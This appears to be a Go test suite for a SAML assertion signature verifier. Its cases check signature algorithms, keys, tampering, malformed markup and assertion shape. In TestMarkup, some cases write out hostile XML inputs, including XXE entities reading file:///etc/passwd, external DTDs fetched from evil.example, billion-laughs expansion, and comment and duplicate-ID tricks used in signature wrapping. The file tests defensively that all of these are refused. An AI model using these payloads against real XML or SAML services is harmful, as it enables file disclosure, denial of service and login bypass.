package saml

import (
	"crypto"
	"crypto/elliptic"
	"encoding/base64"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/beevik/etree"
	"github.com/google/go-cmp/cmp"
	dsig "github.com/russellhaering/goxmldsig"
)

func encode(raw []byte) string { return base64.StdEncoding.EncodeToString(raw) }

func at(clock string) time.Time {
	t, err := time.Parse(time.RFC3339, "2026-03-04T"+clock+"Z")
	if err != nil {
		panic(err)
	}
	return t
}

func TestVerify(t *testing.T) {
	want := Assertion{
		ID: "_a1", Issuer: idp, Subject: "alice", IssuedAt: at("05:06:00"), NotBefore: at("05:06:00"), NotOnOrAfter: at("05:11:00"),
		Audiences:     [][]string{{server}},
		Confirmations: []Confirmation{{Method: Bearer, Data: true, Recipient: endpoint, NotOnOrAfter: at("05:10:00")}},
		AuthTime:      at("05:00:00"), ACR: "high", Attributes: map[string][]string{},
	}
	for name, by := range map[string]identity{
		"RSA": issuer(), "P-256": newEC(elliptic.P256()), "P-384": newEC(elliptic.P384()), "P-521": newEC(elliptic.P521()),
	} {
		got, err := verify(sign(t, plain(), by), attacker().cert, by.cert)
		if diff := cmp.Diff(want, got); err != nil || diff != "" {
			t.Errorf("%s: %v %s", name, err, diff)
		}
	}
}

// TestForeign reads what other XML Signature libraries have signed; testdata has the programs.
func TestForeign(t *testing.T) {
	for file, cert := range map[string]string{
		"signxml-rsa.xml": "rsa.pem", "signxml-ec.xml": "ec.pem", // signxml 4 (lxml) of Python
		"jdk-rsa.xml": "rsa.pem", "jdk-ec.xml": "ec.pem", // Java 17, with InclusiveNamespaces
	} {
		raw, err := os.ReadFile("testdata/" + file)
		if err != nil {
			t.Fatal(err)
		}
		got, err := verify(string(raw), certificate(t, cert))
		if err != nil {
			t.Errorf("%s: %v", file, err)
			continue
		}
		want := map[string][]string{"department": {`treasury & "risk"`}}
		if diff := cmp.Diff(want, got.Attributes); got.Subject != "alice" || got.ID != "_a1" || diff != "" {
			t.Errorf("%s: %+v", file, got)
		}
		if _, err := got.Check(expectation()); err != nil {
			t.Errorf("%s: %v", file, err)
		}
		changed := strings.Replace(string(raw), ">alice<", ">admin<", 1)
		if got, err := verify(changed, certificate(t, cert)); !errors.Is(err, ErrSignature) {
			t.Errorf("%s, changed: %+v, %v", file, got, err)
		}
	}
}

// TestKeys: only a configured certificate's key counts, while it is valid, whatever the document brings along.
func TestKeys(t *testing.T) {
	refused(t, sign(t, plain(), attacker()), ErrSignature) // KeyInfo has its certificate
	weak := newRSA(1024)
	if _, err := verify(sign(t, plain(), weak), weak.cert); !errors.Is(err, ErrSignature) {
		t.Errorf("a weak key: %v", err)
	}
	for _, when := range []time.Time{now.Add(-2 * time.Hour), now.Add(2 * time.Hour)} {
		d, err := Parse([]byte(sign(t, plain(), issuer())))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := d.Verify(certs(issuer()), Algorithms(), when); !errors.Is(err, ErrSignature) {
			t.Errorf("at %v: %v", when, err)
		}
		if _, err := d.Verify(nil, Algorithms(), now); !errors.Is(err, ErrSignature) {
			t.Errorf("without certificates: %v", err)
		}
		if _, err := d.Verify(certs(issuer()), []string{"ES256", "PS256", "RS512"}, now); !errors.Is(err, ErrAlgorithm) {
			t.Errorf("another algorithm: %v", err)
		}
	}
	ec := newEC(elliptic.P256())
	if _, err := verify(write(t, signed(t, plain(), ec, nil)), ec.cert); !errors.Is(err, ErrSignature) {
		t.Errorf("ECDSA in ASN.1: %v", err)
	}
	for _, short := range []string{"AAAA", encode(make([]byte, 63)), encode(make([]byte, 64)), encode(make([]byte, 128))} {
		el := signed(t, plain(), ec, nil)
		el.FindElement("./Signature/SignatureValue").SetText(short)
		if _, err := verify(write(t, el), ec.cert); !errors.Is(err, ErrSignature) {
			t.Errorf("ECDSA, %s: %v", short, err)
		}
	}
	for name, change := range map[string]func(signature *etree.Element){
		"without KeyInfo":    func(s *etree.Element) { s.RemoveChild(s.SelectElement("KeyInfo")) },
		"with a foreign one": func(s *etree.Element) { s.FindElement(".//X509Certificate").SetText(encode(attacker().cert.Raw)) },
		"with nonsense":      func(s *etree.Element) { s.FindElement(".//X509Certificate").SetText("nonsense") },
		"with a line break":  func(s *etree.Element) { v := s.SelectElement("SignatureValue"); v.SetText("\n " + v.Text() + "\n") },
	} {
		el := signed(t, plain(), issuer(), nil)
		change(el.SelectElement("Signature"))
		if a, err := verify(write(t, el)); err != nil || a.Subject != "alice" {
			t.Errorf("%s: %v", name, err)
		}
	}
	if CheckCertificate(issuer().cert) != nil || CheckCertificate(weak.cert) == nil || CheckCertificate(newEC(elliptic.P224()).cert) == nil {
		t.Error("CheckCertificate")
	}
}

// TestAlgorithms: SHA-1, HMAC, other canonicalizations and other transforms count for nothing, not even truly signed.
func TestAlgorithms(t *testing.T) {
	sha1 := signed(t, plain(), issuer(), func(ctx *dsig.SigningContext) { ctx.Hash = crypto.SHA1 })
	refused(t, write(t, sha1), ErrAlgorithm)
	for name, canonicalizer := range map[string]dsig.Canonicalizer{
		"inclusive":              dsig.MakeC14N10RecCanonicalizer(),
		"inclusive 1.1":          dsig.MakeC14N11Canonicalizer(),
		"exclusive, comments":    dsig.MakeC14N10ExclusiveWithCommentsCanonicalizerWithPrefixList(""),
		"inclusive, comments":    dsig.MakeC14N10WithCommentsCanonicalizer(),
		"no canonicalizer known": dsig.MakeNullCanonicalizer(),
	} {
		el := signed(t, plain(), issuer(), func(ctx *dsig.SigningContext) { ctx.Canonicalizer = canonicalizer })
		t.Run(name, func(t *testing.T) { refused(t, write(t, el), ErrAlgorithm) })
	}
	set := func(path, algorithm string) func(*etree.Element) {
		return func(s *etree.Element) { s.FindElement(path).CreateAttr("Algorithm", algorithm) }
	}
	for name, c := range map[string]struct {
		change func(signature *etree.Element)
		want   error
	}{
		"HMAC-SHA1":        {set("./SignedInfo/SignatureMethod", "http://www.w3.org/2000/09/xmldsig#hmac-sha1"), ErrAlgorithm},
		"HMAC-SHA256":      {set("./SignedInfo/SignatureMethod", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"), ErrAlgorithm},
		"RSA-SHA1":         {set("./SignedInfo/SignatureMethod", dsig.RSASHA1SignatureMethod), ErrAlgorithm},
		"ECDSA-SHA1":       {set("./SignedInfo/SignatureMethod", dsig.ECDSASHA1SignatureMethod), ErrAlgorithm},
		"DSA":              {set("./SignedInfo/SignatureMethod", "http://www.w3.org/2000/09/xmldsig#dsa-sha1"), ErrAlgorithm},
		"none":             {set("./SignedInfo/SignatureMethod", "none"), ErrAlgorithm},
		"ECDSA by RSA":     {set("./SignedInfo/SignatureMethod", dsig.ECDSASHA256SignatureMethod), ErrSignature},
		"c14n of the info": {set("./SignedInfo/CanonicalizationMethod", string(dsig.CanonicalXML10RecAlgorithmId)), ErrAlgorithm},
		"digest SHA-1":     {set(".//DigestMethod", "http://www.w3.org/2000/09/xmldsig#sha1"), ErrAlgorithm},
		"digest MD5":       {set(".//DigestMethod", "http://www.w3.org/2001/04/xmldsig-more#md5"), ErrAlgorithm},
		"XSLT":             {set(".//Transform[2]", "http://www.w3.org/TR/1999/REC-xslt-19991116"), ErrAlgorithm},
		"XPath":            {set(".//Transform[1]", "http://www.w3.org/TR/1999/REC-xpath-19991116"), ErrAlgorithm},
		"base64":           {set(".//Transform[1]", "http://www.w3.org/2000/09/xmldsig#base64"), ErrAlgorithm},
		"not enveloped":    {set(".//Transform[1]", exclusiveC14N), ErrAlgorithm},
		"no transforms":    {func(s *etree.Element) { ts := s.FindElement(".//Transforms"); ts.Child = nil }, ErrMalformed},
		"three transforms": {func(s *etree.Element) {
			ts := s.FindElement(".//Transforms")
			ts.AddChild(ts.ChildElements()[1].Copy())
		}, ErrMalformed},
		"XPath in it":   {func(s *etree.Element) { s.FindElement(".//Transform[1]").AddChild(wrapper(nsSignature, "XPath")) }, ErrMalformed},
		"XPath in c14n": {func(s *etree.Element) { s.FindElement(".//Transform[2]").AddChild(wrapper(nsSignature, "XPath")) }, ErrMalformed},
		"HMAC length": {func(s *etree.Element) {
			s.FindElement(".//SignatureMethod").AddChild(wrapper(nsSignature, "HMACOutputLength"))
		}, ErrMalformed},
		"a second Algorithm in a namespace": {func(s *etree.Element) {
			m := s.FindElement(".//SignatureMethod")
			m.CreateAttr("ds:Algorithm", dsig.RSASHA1SignatureMethod)
		}, ErrMalformed},
	} {
		t.Run(name, func(t *testing.T) {
			el := signed(t, plain(), issuer(), nil)
			c.change(el.SelectElement("Signature"))
			refused(t, write(t, resigned(t, el, issuer())), c.want)
		})
	}
}

// TestMarkup: what makes parsers do more than read, or read two ways, is refused before one sees it, signed or not.
func TestMarkup(t *testing.T) {
	good := sign(t, plain(), issuer())
	const xxe = `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>`
	inName := func(text string) string { return strings.Replace(good, ">alice<", ">"+text+"<", 1) }
	for name, text := range map[string]string{
		"DTD":                       `<!DOCTYPE a>` + good,
		"XXE":                       xxe + inName("&x;"),
		"XXE after the declaration": `<?xml version="1.0"?>` + xxe + inName("&x;"),
		"parameter entity":          `<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>` + good,
		"billion laughs":            `<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>` + inName("&b;"),
		"external DTD":              `<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">` + good,
		"DTD inside":                inName("alice" + xxe),
		"entity that nobody knows":  inName("&x;"),
		"comment in NameID":         inName("alice<!-- x -->"),
		"comment that splits it":    inName("al<!---->ice"),
		"comment elsewhere":         strings.Replace(good, "<saml:Subject>", "<!-- x --><saml:Subject>", 1),
		"comment before":            "<!-- x -->" + good,
		"comment after":             good + "<!-- x -->",
		"CDATA":                     inName("<![CDATA[alice]]>"),
		"processing instruction":    inName("alice<?x y?>"),
		"PI before":                 `<?xml-stylesheet href="http://evil.example/"?>` + good,
		"PI after":                  good + "<?x?>",
		"declaration twice":         `<?xml version="1.0"?><?xml version="1.0"?>` + good,
		"declaration not first":     ` <?xml version="1.0"?>` + good,
		"another encoding":          `<?xml version="1.0" encoding="UTF-7"?>` + good,
		"XML 1.1":                   `<?xml version="1.1"?>` + good,
		"UTF-16":                    "\xff\xfe" + good,
		"not UTF-8":                 inName("\xff"),
		"a BOM":                     "\ufeff" + good,
		"two roots":                 good + good,
		"text after":                good + "x",
		"text before":               "x" + good,
		"unclosed":                  strings.TrimSuffix(good, "</saml:Assertion>"),
		"empty":                     "",
		"too long":                  good + strings.Repeat(" ", MaxSize),
		"too deep":                  inName(strings.Repeat("<a>", 100) + strings.Repeat("</a>", 100)),
		"too many elements":         inName(strings.Repeat("<a/>", 1000)),
		"too many attributes":       strings.Replace(good, "<saml:Subject", "<saml:Subject"+many(100), 1),
		"attribute twice":           strings.Replace(good, `ID="_a1"`, `ID="_a1" ID="_a1"`, 1),
		"ID in a namespace":         strings.Replace(good, `ID="_a1"`, `saml:ID="_evil" ID="_a1"`, 1),
		"xml:id":                    strings.Replace(good, `<saml:Subject>`, `<saml:Subject xml:id="_a1">`, 1),
		"an ID twice":               strings.Replace(good, `<saml:Subject>`, `<saml:Subject Id="_a1">`, 1),
		"empty ID":                  strings.Replace(good, `<saml:Subject>`, `<saml:Subject id="">`, 1),
		"two colons":                strings.Replace(good, `<saml:Subject>`, `<saml:Subject a:b:c="">`, 1),
		"undeclared prefix":         strings.Replace(good, `<saml:Subject>`, `<saml:Subject x:y="">`, 1),
		"undeclared element prefix": inName("<x:y/>"),
		"undeclared namespace":      strings.Replace(good, `<saml:Subject>`, `<saml:Subject xmlns:x="">`, 1),
		"xml redeclared":            strings.Replace(good, `<saml:Subject>`, `<saml:Subject xmlns:xml="urn:evil">`, 1),
		"xmlns redeclared":          strings.Replace(good, `<saml:Subject>`, `<saml:Subject xmlns:xmlns="urn:evil">`, 1),
		"NUL":                       inName("alice&#0;"),
		"an array":                  "[]",
	} {
		t.Run(name, func(t *testing.T) { refused(t, text, ErrMalformed) })
	}
	if _, err := verify(`<?xml version="1.0" encoding="UTF-8"?>` + "\n" + good + "\n"); err != nil {
		t.Errorf("with a declaration: %v", err)
	}
}

func many(n int) string {
	var all strings.Builder
	for i := range n {
		fmt.Fprintf(&all, ` a%d=""`, i)
	}
	return all.String()
}

// TestChanged: a change anywhere in what is signed, or in the signature, is noticed.
func TestChanged(t *testing.T) {
	good := sign(t, plain(), issuer())
	for name, text := range map[string]string{
		"name":          strings.Replace(good, "alice", "admin", 1),
		"name, longer":  strings.Replace(good, "alice", "alice ", 1),
		"audience":      strings.Replace(good, "<saml:Audience>https://as", "<saml:Audience>https://bs", 1),
		"time":          strings.Replace(good, "05:11:00", "06:11:00", 1),
		"issuer":        strings.Replace(good, "<saml:Issuer>https://sts", "<saml:Issuer>https://sty", 1),
		"digest":        strings.Replace(good, "DigestValue>", "DigestValue>A", 1),
		"value":         strings.Replace(good, "SignatureValue>", "SignatureValue>AAAA", 1),
		"namespace":     strings.Replace(good, nsAssertion, nsAssertion+"x", 1),
		"other ID":      strings.ReplaceAll(good, "_a1", "_a2"),
		"added element": strings.Replace(good, "<saml:Conditions", "<saml:AttributeStatement/><saml:Conditions", 1),
		"white space":   strings.Replace(good, "<saml:Subject>", "<saml:Subject> ", 1),
	} {
		t.Run(name, func(t *testing.T) { refused(t, text, ErrSignature, ErrMalformed) })
	}
	refused(t, plain(), ErrSignature) // unsigned
	empty := strings.Replace(plain(), "<saml:Subject>", `<ds:Signature xmlns:ds="`+nsSignature+`"/><saml:Subject>`, 1)
	refused(t, empty, ErrMalformed)
}

// value is an assertion that has the text for the value of an attribute.
func value(text string) string {
	return plain("</saml:Assertion>", `<saml:AttributeStatement><saml:Attribute Name="a"><saml:AttributeValue>`+text+
		`</saml:AttributeValue></saml:Attribute></saml:AttributeStatement></saml:Assertion>`)
}

// TestShape: what the issuer has truly signed must still be what is understood here, as a whole.
func TestShape(t *testing.T) {
	for name, text := range map[string]string{
		"SAML 1.1":           plain(`Version="2.0"`, `Version="1.1"`),
		"no Version":         plain(` Version="2.0"`, ""),
		"no ID":              plain(` ID="_a1"`, ""),
		"ID no name":         plain(`ID="_a1"`, `ID="1 a"`),
		"ID too long":        plain(`ID="_a1"`, `ID="_`+strings.Repeat("a", MaxID)+`"`),
		"no IssueInstant":    plain(` IssueInstant="2026-03-04T05:06:00Z"`, ""),
		"time malformed":     plain("2026-03-04T05:00:00Z", "yesterday"),
		"no Issuer":          plain("<saml:Issuer>https://sts.example</saml:Issuer>", ""),
		"empty Issuer":       plain("<saml:Issuer>https://sts.example<", "<saml:Issuer><"),
		"no Conditions":      plain("saml:Conditions", "saml:Advice"),
		"unknown condition":  plain("<saml:AudienceRestriction>", "<saml:ProxyRestriction/><saml:AudienceRestriction>"),
		"foreign condition":  plain("<saml:AudienceRestriction>", `<x:Never xmlns:x="urn:x"/><saml:AudienceRestriction>`),
		"no Subject":         plain("<saml:Subject>", "<saml:Advice>", "</saml:Subject>", "</saml:Advice>"),
		"EncryptedID":        plain("<saml:NameID>alice</saml:NameID>", "<saml:EncryptedID/>"),
		"two names":          plain("<saml:NameID>", "<saml:NameID>bob</saml:NameID><saml:NameID>"),
		"no name":            plain("<saml:NameID>alice</saml:NameID>", ""),
		"empty name":         plain(">alice<", "><"),
		"element in a name":  plain(">alice<", "><b>alice</b><"),
		"text beside":        plain("<saml:Subject>", "<saml:Subject>alice"),
		"foreign NameID":     plain("<saml:NameID>alice</saml:NameID>", `<x:NameID xmlns:x="urn:x">alice</x:NameID>`),
		"two AuthnStatement": plain("<saml:AuthnStatement", `<saml:AuthnStatement AuthnInstant="2026-03-04T05:00:00Z"/><saml:AuthnStatement`),
		"no AuthnInstant":    plain(` AuthnInstant="2026-03-04T05:00:00Z"`, ""),
		"two Subjects":       plain("<saml:Conditions", "<saml:Subject><saml:NameID>admin</saml:NameID></saml:Subject><saml:Conditions"),
		"two Issuers":        plain("<saml:Subject>", "<saml:Issuer>https://sts.example</saml:Issuer><saml:Subject>"),
		"two Conditions":     plain("<saml:Conditions", "<saml:Conditions/><saml:Conditions"),
		"a name in parts":    plain(">alice<", ">al<saml:b/>ice<"),
		"an assertion in it": value(plain(`ID="_a1"`, `ID="_a2"`)),
		"an encrypted one":   value("<saml:EncryptedAssertion/>"),
		"a signature in it":  value(`<ds:Signature xmlns:ds="` + nsSignature + `"/>`),
		"authz decision":     plain("<saml:AuthnStatement", "<saml:AuthzDecisionStatement/><saml:AuthnStatement"),
	} {
		t.Run(name, func(t *testing.T) { refused(t, sign(t, text, issuer()), ErrMalformed) })
	}
}

func FuzzVerify(f *testing.F) {
	good := sign(f, plain(), issuer())
	for _, seed := range []string{
		good, plain(), "", "<a/>", "<!DOCTYPE a>", `<?xml version="1.0"?>` + good, strings.Replace(good, "alice", "al<!---->ice", 1),
		strings.Replace(good, "#_a1", "", 1), strings.Replace(good, "#_a1", "#", 1), strings.Replace(good, "<ds:KeyInfo>", "<ds:KeyInfo/><ds:KeyInfo>", 1),
		strings.Replace(good, `ID="_a1"`, `ID="_a1" x:ID="b" xmlns:x="urn:x"`, 1), good + good, strings.ReplaceAll(good, "saml:", ""),
	} {
		f.Add([]byte(seed))
	}
	want, err := verify(good)
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		got, err := verify(string(raw))
		if err == nil {
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("%q was accepted: %s", raw, diff)
			}
			return
		}
		if !errors.Is(err, ErrMalformed) && !errors.Is(err, ErrAlgorithm) && !errors.Is(err, ErrSignature) {
			t.Errorf("another error: %v", err)
		}
		if got.ID != "" || got.Subject != "" {
			t.Error("something came out")
		}
	})
}
